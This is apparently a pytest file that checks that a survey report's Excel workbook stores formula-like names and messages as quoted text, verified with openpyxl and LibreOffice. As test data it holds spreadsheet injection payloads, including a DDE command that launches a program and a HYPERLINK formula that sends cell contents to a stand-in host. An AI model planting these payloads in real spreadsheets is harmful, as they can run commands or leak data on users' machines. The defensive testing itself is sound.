"""The report workbook writes names and messages that look like formulas as text. No database."""

import io
from pathlib import Path

from openpyxl import load_workbook

from surveys.report import workbook
from surveys.report.data import ReportData
from tests.libreoffice import sheets_as_csv
from tests.surveys.report.test_workbook import make_report
from tests.xlsx import assert_no_formula, formula_like_cells

HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
INJECTIONS = (HYPERLINK, "+1", "-2", "@SUM(A1)", DDE)


def report_with_formula_names() -> ReportData:
    """The district named =cmd…, 东港镇 =HYPERLINK…, its committees +1, its teams and brands @SUM(A1)."""
    report = make_report()
    report.scope_name = DDE
    for data in report.forms.values():
        for towns in data.sections.values():
            for town in towns:
                if town["town"] != "XS01":
                    continue
                town["name"] = HYPERLINK
                for row in town["rows"]:
                    if "committee_name" in row:
                        row["committee_name"] = "+1"
                    if "name" in row:
                        row["name"] = "@SUM(A1)"
    for problem in report.problems:
        problem["committee_name"], problem["message"] = "-2", "=1+2"
    report.missing[0]["town_name"] = DDE
    report.indicators["village_exec_deputy_exceptions"]["value"][0]["name"] = "@SUM(A1)"
    report.indicators["funds_in_place_by_town"]["value"][0]["name"] = HYPERLINK
    return report


def test_no_cell_of_the_report_is_a_formula():
    data = workbook.build(report_with_formula_names())
    assert_no_formula(data)
    cells = formula_like_cells(data)
    book = load_workbook(io.BytesIO(data))
    assert {c.value for c in cells} >= {*INJECTIONS, "=1+2"} - {DDE}  # the district's name leads the titles
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    titled = [ws.title for ws in book.worksheets if ws["A1"].value.startswith(DDE)]
    assert titled == [workbook.SUMMARY_SHEET, workbook.PROBLEMS_SHEET, workbook.APPENDIX_SHEET, workbook.CHARTS_SHEET]


def test_libreoffice_shows_the_names_as_typed(tmp_path: Path):
    source = tmp_path / "report.xlsx"
    source.write_bytes(workbook.build(report_with_formula_names()))
    sheets = sheets_as_csv(source, tmp_path)
    assert sheets["汇总"][0][0].startswith(DDE)
    problems = sheets["问题清单"][workbook.FIRST_DATA_ROW - 1 :]
    problems = problems[: next((i for i, line in enumerate(problems) if not any(line)), len(problems))]
    assert {(line[3], line[5]) for line in problems} == {("-2", "=1+2")}
    leadership = [line[:2] for line in sheets["表1 班子队伍"]]
    assert ["XS01", "+1"] in leadership and [workbook.SUBTOTAL, HYPERLINK] in leadership
    assert [workbook.TOTAL, DDE] in leadership
    assert any(line[1] == "@SUM(A1)" for line in sheets["表5B 品牌项目"])
    assert any(line[0] == HYPERLINK for line in sheets[workbook.CHARTS_SHEET])
